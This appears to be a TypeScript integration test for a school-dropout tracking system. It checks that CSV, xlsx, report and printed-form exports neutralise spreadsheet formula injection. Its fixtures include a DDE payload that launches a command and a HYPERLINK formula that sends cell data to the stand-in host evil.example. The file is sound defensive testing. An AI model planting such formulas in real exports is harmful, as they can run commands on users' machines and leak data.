import ExcelJS from 'exceljs';
import { startTestApp, type TestApp } from '../support/app';
import { createCounty } from '../support/county';

// Text a user typed that a spreadsheet would run as a formula (OWASP: CSV injection) comes out of
// every download as text with a leading apostrophe: exports, report tables and printed forms.

let app: TestApp;
let c: Awaited<ReturnType<typeof createCounty>>;
const ADDRESS = `=cmd|' /C calc'!A0`;
const NOTE = '-2+3 连续三天未到校';
const SCHOOL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';
let caseId: string;

beforeAll(async () => {
  app = await startTestApp();
  c = await createCounty(app);
  const admin = (q: string, v?: Record<string, unknown>) => app.ok(q, v, c.users.BUREAU_ADMIN);
  const { version } = (await admin('query ($id: ID!) { Student(id: $id) { version } }', { id: c.students.s1 })).Student;
  await admin('mutation ($id: ID!, $v: Int!, $a: String, $n: String) { updateStudent(id: $id, version: $v, address: $a, note: $n) { id } }', { id: c.students.s1, v: version, a: ADDRESS, n: NOTE });
  await admin('mutation ($n: String!) { createSchool(name: $n, code: "SX01", kind: PRIMARY) { id } }', { n: SCHOOL });
  caseId = (await admin('mutation ($s: ID!) { createDropoutCase(studentId: $s, discoveredOn: "2024-10-12") { id } }', { s: c.students.s1 })).createDropoutCase.id;
});
afterAll(() => app.close());

const download = (path: string) => fetch(`${app.url}${path}`, { headers: { authorization: `Bearer ${c.users.BUREAU_ADMIN}` } });

/** RFC 4180 CSV, as a spreadsheet splits it into cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const src = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < src.length; i++) {
    const ch = src[i];
    if (quoted) {
      if (ch === '"' && src[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && src[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  return rows;
}

async function workbook(res: Response) {
  expect(res.status).toBe(200);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
  return book;
}

describe('downloads neutralise formula-like text', () => {
  it('in CSV exports', async () => {
    const rows = parseCsv(await (await download('/export/Student.csv')).text());
    const head = rows[0];
    const zhang = rows.find((r) => r[head.indexOf('姓名')] === '张晓明')!;
    expect(zhang[head.indexOf('家庭住址')]).toBe(`'${ADDRESS}`);
    expect(zhang[head.indexOf('备注')]).toBe(`'${NOTE}`);
    const schools = parseCsv(await (await download('/export/School.csv')).text());
    expect(schools.map((r) => r[schools[0].indexOf('学校名称')])).toContain(`'${SCHOOL}`);
  });

  it('in xlsx exports, as text cells', async () => {
    const sheet = (await workbook(await download('/export/Student.xlsx'))).worksheets[0];
    const head = (sheet.getRow(1).values as unknown[]).slice(1);
    let found: ExcelJS.Row | undefined;
    sheet.eachRow((row) => {
      if (row.getCell(head.indexOf('姓名') + 1).value === '张晓明') found = row;
    });
    const address = found!.getCell(head.indexOf('家庭住址') + 1);
    expect([address.value, address.type]).toEqual([`'${ADDRESS}`, ExcelJS.ValueType.String]);
    expect(found!.getCell(head.indexOf('备注') + 1).value).toBe(`'${NOTE}`);
  });

  it('in report tables, leaving numbers numbers', async () => {
    const sheet = (await workbook(await download('/reports/consolationReport.xlsx?schoolYear=2024-2025&groupBy=SCHOOL'))).worksheets[0];
    let found: ExcelJS.Row | undefined;
    sheet.eachRow((row) => {
      if (String(row.getCell(2).value).includes('HYPERLINK')) found = row;
    });
    expect(found!.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(found!.getCell(2).value).toBe(`'${SCHOOL}`);
    expect(found!.getCell(3).value).toBe(0);
  });

  it('in printed forms', async () => {
    const sheet = (await workbook(await download(`/forms/DropoutCase/${caseId}.xlsx`))).worksheets[0];
    expect(sheet.getCell('B3').value).toBe('张晓明');
    expect(sheet.getCell('D4').value).toBe(`'${ADDRESS}`);
  });
});
